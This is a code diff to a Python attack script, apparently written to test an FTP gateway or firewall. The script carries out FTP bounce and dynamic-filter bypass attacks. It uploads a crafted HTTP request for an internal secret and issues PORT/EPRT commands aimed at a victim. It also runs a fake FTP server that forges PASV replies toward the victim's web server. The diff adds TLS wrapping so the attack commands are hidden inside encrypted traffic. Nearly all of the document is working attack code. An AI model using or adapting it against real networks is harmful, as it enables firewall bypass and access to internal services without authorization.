@@ -10,8 +10,15 @@
   attack.py evilftpd ADDR PORT VICTIM_IP VICTIM_PORT LOG
       Dynamic-filter attack, outside part: a fake FTP server. Whenever it gets PORT/EPRT it connects to the
       address named (as a server would) and, whatever it got, tries the victim directly too. Logs JSON lines.
+      It answers PASV with a forged 227 naming VICTIM_IP:8080 (attack_extra.py forged227).
+
+  attack.py --tls CA SUB-COMMAND ...   bypass and applet over FTPS: AUTH TLS (the gateway's certificate checked
+      against CA), PBSZ 0 and PROT P after the login, and every data connection resuming the control
+      connection's TLS session, so that every command travels inside TLS.
 """
-import json, re, socket, sys, threading, time
+import json, re, socket, ssl, sys, threading, time
+
+CA = None  # --tls CA
 
 
 def jprint(obj):
@@ -20,9 +27,39 @@ def jprint(obj):
 
 class Control:
     def __init__(self, host, port):
+        self.host = host
         self.sock = socket.create_connection((host, int(port)), timeout=10)
         self.buf = b""
         self.transcript = []
+        self.ctx = ssl.create_default_context(cafile=CA) if CA else None
+
+    def secure(self):
+        """With --tls: AUTH TLS and the handshake (before USER)."""
+        if self.ctx:
+            code, _ = self.cmd("AUTH TLS")
+            if code != 234:
+                raise RuntimeError("AUTH TLS answered %s" % code)
+            self.sock = self.ctx.wrap_socket(self.sock, server_hostname=self.host)
+            self.transcript.append("--- TLS %s %s" % (self.sock.version(), self.sock.cipher()[0]))
+
+    def login(self, user, password):
+        self.reply()
+        self.secure()
+        self.cmd("USER " + user)
+        code, _ = self.cmd("PASS " + password)
+        if self.ctx:
+            self.cmd("PBSZ 0")
+            self.cmd("PROT P")
+        return code
+
+    def data(self, sock):
+        """A data connection, after its transfer command was sent: with --tls, TLS resuming the control
+        connection's session (as vsftpd demands); the gateway starts the handshake once it has the command."""
+        if not self.ctx:
+            return sock
+        s = self.ctx.wrap_socket(sock, server_hostname=self.host, session=self.sock.session)
+        self.transcript.append("--- data TLS %s, resumed %s" % (s.version(), s.session_reused))
+        return s
 
     def reply(self, timeout=10):
         self.sock.settimeout(timeout)
@@ -68,11 +105,23 @@ def passive_connect(c, host):
     return socket.create_connection((host, port), timeout=10)
 
 
+def close_data(s):
+    """Ends a data connection; under TLS with close_notify, reading what the gateway still sends (its session
+    ticket) so that the close is a FIN, not a reset that would lose the data's tail."""
+    if isinstance(s, ssl.SSLSocket):
+        try:
+            s = s.unwrap()
+            s.shutdown(socket.SHUT_WR)
+            while s.recv(4096):
+                pass
+        except OSError:
+            pass
+    s.close()
+
+
 def bypass(host, port, victim_ip, victim_port):
     c = Control(host, port)
-    c.reply()
-    c.cmd("USER anonymous")
-    c.cmd("PASS attacker@example.org")
+    c.login("anonymous", "attacker@example.org")
     c.cmd("TYPE I")
     request = ("GET /internal/secret HTTP/1.0\r\nHost: intranet.example\r\nX-Bounce: ftp\r\n\r\n").encode()
     name = "req-%d.txt" % int(time.time() * 1000)
@@ -81,14 +130,15 @@ def bypass(host, port, victim_ip, victim_port):
     if data:
         c.transcript.append("--> STOR " + name)
         c.sock.sendall(("STOR %s\r\n" % name).encode())
+        data = c.data(data)
         code, _ = c.reply()
         if code in (125, 150):
             data.sendall(request)
-            data.close()
+            close_data(data)
             code, _ = c.reply()
             uploaded = code == 226
         else:
-            data.close()
+            close_data(data)
     results = []
     attempts = [("EPRT", eprt_arg(victim_ip, int(victim_port)))]
     if "." in victim_ip:  # PORT can only name IPv4 addresses
@@ -106,9 +156,7 @@ def bypass(host, port, victim_ip, victim_port):
 
 def applet(host, port, user, victim_ip, victim_port):
     c = Control(host, port)
-    c.reply()
-    c.cmd("USER " + user)
-    c.cmd("PASS applet@example.org")
+    c.login(user, "applet@example.org")
     results = []
     for verb, arg in (("PORT", port_arg(victim_ip, int(victim_port))), ("EPRT", eprt_arg(victim_ip, int(victim_port)))):
         code, _ = c.cmd("%s %s" % (verb, arg))
@@ -169,7 +217,9 @@ def evilftpd(addr, port, victim_ip, victim_port, log_path):
                 target = (parts[2], int(parts[3]))
                 conn.sendall(b"200 EPRT ok\r\n")
                 try_connect(target[0], target[1], "named in EPRT")
-            elif verb in ("PASV", "EPSV"):
+            elif verb == "PASV":  # forged: the victim's web server instead of this server
+                conn.sendall(("227 Entering Passive Mode (%s,31,144)\r\n" % victim_ip.replace(".", ",")).encode())
+            elif verb == "EPSV":
                 conn.sendall(b"502 no passive here\r\n")
             elif verb in ("LIST", "NLST", "RETR"):
                 if target and try_connect(target[0], target[1], "data connection for " + verb):
@@ -201,4 +251,7 @@ def evilftpd(addr, port, victim_ip, victim_port, log_path):
 
 
 if __name__ == "__main__":
-    {"bypass": bypass, "applet": applet, "evilftpd": evilftpd}[sys.argv[1]](*sys.argv[2:])
+    args = sys.argv[1:]
+    if args[0] == "--tls":
+        CA, args = args[1], args[2:]
+    {"bypass": bypass, "applet": applet, "evilftpd": evilftpd}[args[0]](*args[1:])
